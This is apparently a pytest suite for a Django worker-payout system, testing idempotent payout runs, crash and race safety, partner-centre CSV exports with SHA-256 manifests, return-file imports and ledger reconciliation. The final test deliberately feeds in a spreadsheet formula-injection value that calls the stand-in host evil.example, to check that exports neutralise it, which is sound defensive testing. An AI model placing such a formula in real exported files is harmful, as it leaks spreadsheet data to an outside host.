"""Payout runs: one line per worker from one aggregation, the ledger committed
before the rail is called, no double payment under racing runs or after a crash,
failures returned visibly, the partner centre's files, and reconciliation."""

import csv
import hashlib
import io
from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.management import CommandError, call_command
from django.utils import timezone

from payouts import rails, runs
from payouts.models import JournalEntry, LedgerAccount, PartnerBatch, PayoutDestination, PayoutLine
from payouts.partner import ReturnFileRejected, import_return_file
from payouts.reconcile import differences
from tests.concurrency import errors, race
from tests.factories import WorkerProfileFactory
from tests.payouts.helpers import available, balance, paid, via_centre
from tests.work_helpers import published_set

Kind = LedgerAccount.Kind
PARTNER = PayoutDestination.Rail.PARTNER_CENTRE
pytestmark = pytest.mark.django_db
LONG_AGO = timezone.now() - timedelta(days=30)


class SimulatedCrash(Exception):
    pass


class RecordingRail:
    """A rail that keeps its transfers by idempotency key, as Stripe does: a repeated
    key returns the first transfer and moves no money."""

    name = "test_rail"

    def __init__(self):
        self.transfers: dict[str, rails.RailResult] = {}
        self.calls = 0
        self.crash_after_paying = False

    def minimum_minor(self, currency):
        return rails.configured_minimum(self.name, currency)

    def is_payable(self, worker):
        return True

    def pay(self, line):
        self.calls += 1
        if line.idempotency_key not in self.transfers:
            self.transfers[line.idempotency_key] = rails.RailResult(f"tr_{line.pk}", "sent")
        if self.crash_after_paying:
            self.crash_after_paying = False
            raise SimulatedCrash  # after the rail moved money, before our commit
        return self.transfers[line.idempotency_key]

    def lookup(self, line):
        return self.transfers.get(line.idempotency_key)

    def finish_run(self, run):
        pass


@pytest.fixture
def test_rail(settings):
    rail = rails.register(RecordingRail())
    settings.PAYOUT_MINIMUMS_MINOR = {**settings.PAYOUT_MINIMUMS_MINOR, "test_rail": {"USD": 10}}
    yield rail
    rails._RAILS.pop("test_rail")


@pytest.fixture(autouse=True)
def _small_minimums(settings):
    # Test answers earn cents: the partner rail's minimum is lowered to 10 cents.
    settings.PAYOUT_MINIMUMS_MINOR = {**settings.PAYOUT_MINIMUMS_MINOR, PARTNER: {"USD": 10}}


@pytest.fixture
def labels(requester_org, requester, admin_user):
    return published_set(
        organization=requester_org, requester=requester, admin=admin_user, regular=20, gold=5
    )


def earner(task_set, answers, rail="test_rail", centre=None):
    user = WorkerProfileFactory().user
    if rail == PARTNER:
        via_centre(user, centre, mobile="+85512345678")
    elif rail:
        PayoutDestination.objects.create(worker=user, rail=rail)
    for _ in range(answers):
        paid(task_set, user, when=LONG_AGO)
    return user


def test_a_run_makes_one_line_per_worker_at_or_above_the_minimum(labels, test_rail):
    rich = earner(labels, 4)  # 20 cents
    exact = earner(labels, 2)  # 10 cents: the minimum
    poor = earner(labels, 1)  # 5 cents: waits
    nowhere = earner(labels, 4, rail=None)  # no payout method: waits
    run = runs.run_payouts(rail_name="test_rail", currency="USD")
    lines = {line.worker_id: line for line in PayoutLine.objects.filter(run=run)}
    assert {w: line.amount_minor for w, line in lines.items()} == {rich.pk: 20, exact.pk: 10}
    assert all(line.status == "sent" for line in lines.values())
    assert (run.line_count, run.total_minor, run.status) == (2, 30, "finished")
    assert (available(rich), available(poor), available(nowhere)) == (0, 5, 20)
    assert balance(Kind.PAYOUTS_IN_TRANSIT, reference="test_rail") == 30
    assert JournalEntry.objects.filter(kind="payout.initiated").count() == 2
    assert len(test_rail.transfers) == 2
    assert differences() == []


def test_a_second_run_pays_nothing_twice(labels, test_rail):
    earner(labels, 4)
    runs.run_payouts(rail_name="test_rail", currency="USD")
    again = runs.run_payouts(rail_name="test_rail", currency="USD")
    assert again.line_count == 0 and test_rail.calls == 1


def test_the_ledger_is_committed_before_the_rail_is_called(labels, test_rail):
    sokha = earner(labels, 4)

    def pay(line):
        # The entry moving the money is already there when the rail is asked.
        assert JournalEntry.objects.filter(
            idempotency_key=f"payout:{line.run_id}:{line.pk}"
        ).exists()
        assert available(sokha) == 0
        return rails.RailResult("tr_x", "sent")

    test_rail.pay = pay
    runs.run_payouts(rail_name="test_rail", currency="USD")


def test_a_rerun_after_a_crash_between_paying_and_committing_pays_once(labels, test_rail):
    sokha = earner(labels, 4)
    test_rail.crash_after_paying = True
    with pytest.raises(SimulatedCrash):
        runs.run_payouts(rail_name="test_rail", currency="USD")
    line = PayoutLine.objects.get(worker=sokha)
    assert line.status == "pending"  # our record of the rail's answer was lost
    assert len(test_rail.transfers) == 1  # but the rail paid
    runs.run_payouts(rail_name="test_rail", currency="USD")
    line.refresh_from_db()
    assert (line.status, line.external_id) == ("sent", f"tr_{line.pk}")
    assert test_rail.calls == 2 and len(test_rail.transfers) == 1
    assert PayoutLine.objects.filter(worker=sokha).count() == 1
    assert differences() == []


def test_a_failed_payout_returns_the_money_to_available_visibly(labels, test_rail):
    sokha = earner(labels, 4)
    test_rail.pay = lambda line: rails.RailResult("tr_f", "failed", "account closed")
    runs.run_payouts(rail_name="test_rail", currency="USD")
    line = PayoutLine.objects.get(worker=sokha)
    assert (line.status, line.failure_reason) == ("failed", "account closed")
    assert available(sokha) == 20
    assert JournalEntry.objects.filter(kind="payout.failed").count() == 1
    assert balance(Kind.PAYOUTS_IN_TRANSIT, reference="test_rail") == 0


def test_a_rail_without_a_minimum_for_the_currency_refuses(test_rail):
    with pytest.raises(ValidationError):
        runs.run_payouts(rail_name="test_rail", currency="EUR")


@pytest.mark.django_db(transaction=True)
def test_two_runs_at_once_never_pay_anybody_twice(requester_org, requester, admin_user, test_rail):
    labels = published_set(
        organization=requester_org, requester=requester, admin=admin_user, regular=20, gold=5
    )
    workers = [earner(labels, 3) for _ in range(6)]
    outcomes = race(
        lambda: runs.run_payouts(rail_name="test_rail", currency="USD"),
        lambda: runs.run_payouts(rail_name="test_rail", currency="USD"),
    )
    assert errors(outcomes) == []
    for user in workers:
        assert PayoutLine.objects.filter(worker=user).count() == 1
        assert available(user) == 0
    assert sorted(run.line_count for run in outcomes) == [0, 6]
    assert len(test_rail.transfers) == 6 and test_rail.calls == 6
    assert differences() == []


# --- Partner centre ------------------------------------------------------------------


@pytest.fixture
def centre_run(labels, centre):
    first = earner(labels, 4, rail=PARTNER, centre=centre)
    second = earner(labels, 6, rail=PARTNER, centre=centre)
    run = runs.run_payouts(rail_name=PARTNER, currency="USD")
    return run, first, second


def test_a_partner_run_writes_a_csv_and_its_sha256_manifest(centre_run, centre):
    run, first, second = centre_run
    batch = PartnerBatch.objects.get(run=run, centre=centre)
    data = default_storage.open(batch.csv_name, "rb").read()
    manifest = default_storage.open(batch.manifest_name).read().decode()
    assert manifest == f"{hashlib.sha256(data).hexdigest()}  {batch.csv_name.rsplit('/', 1)[-1]}\n"
    rows = list(csv.DictReader(io.StringIO(data.decode())))
    assert [(r["worker"], r["amount"], r["currency"]) for r in rows] == [
        (first.username, "0.20", "USD"),
        (second.username, "0.30", "USD"),
    ]
    assert rows[0]["mobile_money_number"] == "+85512345678"
    assert rows[0]["centre_reference"] == f"C-{first.pk}"
    assert (batch.line_count, batch.total_minor) == (2, 50)


def return_file(*rows):
    return (
        "line_id,status,reference\n" + "".join(f"{','.join(map(str, r))}\n" for r in rows)
    ).encode()


def test_a_return_file_marks_lines_paid_or_failed(centre_run, centre, coordinator):
    run, first, second = centre_run
    batch = PartnerBatch.objects.get(run=run)
    one, two = PayoutLine.objects.filter(run=run).order_by("pk")
    counts = import_return_file(
        batch_id=batch.pk,
        data=return_file((one.pk, "paid", "cash 123"), (two.pk, "failed", "not collected")),
        actor=coordinator,
    )
    assert counts == {"paid": 1, "failed": 1}
    one.refresh_from_db()
    two.refresh_from_db()
    assert (one.status, two.status) == ("paid", "failed")
    assert available(second) == 30 and available(first) == 0
    assert balance(Kind.PAID_OUT, reference=PARTNER) == 20
    assert balance(Kind.PAYOUTS_IN_TRANSIT, reference=PARTNER) == 0
    assert differences() == []


def test_a_bad_return_file_names_each_bad_row_and_applies_nothing(centre_run, coordinator):
    run, _first, _second = centre_run
    batch = PartnerBatch.objects.get(run=run)
    one, two = PayoutLine.objects.filter(run=run).order_by("pk")
    bad = return_file(
        (one.pk, "paid", "ok"), (two.pk, "maybe", ""), (999999, "paid", ""), (one.pk, "paid", "")
    )
    with pytest.raises(ReturnFileRejected) as caught:
        import_return_file(batch_id=batch.pk, data=bad, actor=coordinator)
    assert [(e.line, e.field) for e in caught.value.row_errors] == [
        (3, "status"),
        (4, "line_id"),
        (5, "line_id"),
    ]
    assert set(PayoutLine.objects.filter(run=run).values_list("status", flat=True)) == {"sent"}
    with pytest.raises(ReturnFileRejected, match="first line"):
        import_return_file(batch_id=batch.pk, data=b"id,state\n1,paid\n", actor=coordinator)


def test_only_the_centres_coordinators_and_staff_import(centre_run, vetted_worker):
    run, _first, _second = centre_run
    batch = PartnerBatch.objects.get(run=run)
    line = PayoutLine.objects.filter(run=run).first()
    with pytest.raises(ValidationError):
        import_return_file(
            batch_id=batch.pk, data=return_file((line.pk, "paid", "")), actor=vetted_worker
        )


# --- Reconciliation -------------------------------------------------------------------


def test_reconcile_is_clean_then_reports_a_tampered_balance(centre_run, capsys):
    call_command("reconcile")
    assert "no differences" in capsys.readouterr().out
    LedgerAccount.objects.filter(kind=Kind.PAYOUTS_IN_TRANSIT).update(balance_minor=1)
    with pytest.raises(CommandError, match="difference"):
        call_command("reconcile")
    out = capsys.readouterr().out
    assert "cached balance 1" in out and "in transit partner_centre USD: ledger 1" in out


def test_reconcile_reports_a_line_the_rail_disagrees_with(labels, test_rail):
    earner(labels, 4)
    runs.run_payouts(rail_name="test_rail", currency="USD")
    test_rail.transfers.clear()
    test_rail.lookup = lambda line: rails.RailResult("tr_other", "failed")
    assert any("test_rail says failed" in d for d in differences())


def test_the_payout_run_command(labels, centre, capsys):
    earner(labels, 4, rail=PARTNER, centre=centre)
    call_command("payout_run", "--rail", PARTNER, "--currency", "USD")
    assert "1 lines, 0.20 USD" in capsys.readouterr().out


def test_a_partner_csv_writes_a_formula_reference_as_text(labels, centre):
    worker = WorkerProfileFactory().user
    via_centre(worker, centre, reference='=HYPERLINK("http://evil.example/?"&B3)', mobile="-1+1")
    for _ in range(4):
        paid(labels, worker, when=LONG_AGO)
    run = runs.run_payouts(rail_name=PARTNER, currency="USD")
    batch = PartnerBatch.objects.get(run=run, centre=centre)
    (row,) = csv.DictReader(io.StringIO(default_storage.open(batch.csv_name).read().decode()))
    assert row["centre_reference"] == '\'=HYPERLINK("http://evil.example/?"&B3)'
    assert row["mobile_money_number"] == "'-1+1"
    assert row["amount"] == "0.20"
